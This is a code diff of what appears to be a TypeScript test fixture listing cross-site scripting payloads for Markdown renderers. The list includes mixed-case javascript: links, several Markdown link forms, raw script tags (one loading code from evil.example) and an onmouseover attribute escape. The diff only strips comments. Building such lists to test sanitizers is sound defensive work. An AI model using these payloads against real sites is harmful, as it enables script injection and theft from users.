@@ -1,6 +1,5 @@
 const act = 'alert(1)'
 
-/** Addresses that run a script where a renderer lets them through. */
 const addresses = [
   `javascript:${act}`,
   `JaVaScRiPt:${act}`,
@@ -19,7 +18,6 @@ const addresses = [
   `x:${act}`,
 ]
 
-/** Every way in which Markdown takes an address. */
 const places = [
   (address: string) => `[click](${address})`,
   (address: string) => `[click](<${address}>)`,
@@ -27,7 +25,6 @@ const places = [
   (address: string) => `[click][here]\n\n[here]: ${address}`,
 ]
 
-/** HTML inside Markdown. */
 const elements = [
   `<script>${act}</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
@@ -74,7 +71,6 @@ const escapes = [
   `<https://example.com/"onmouseover="${act}>`,
 ]
 
-/** A hundred texts that have run a script somewhere. */
 export const payloads = [
   ...places.flatMap((place) => addresses.map((address) => place(address))),
   ...elements,
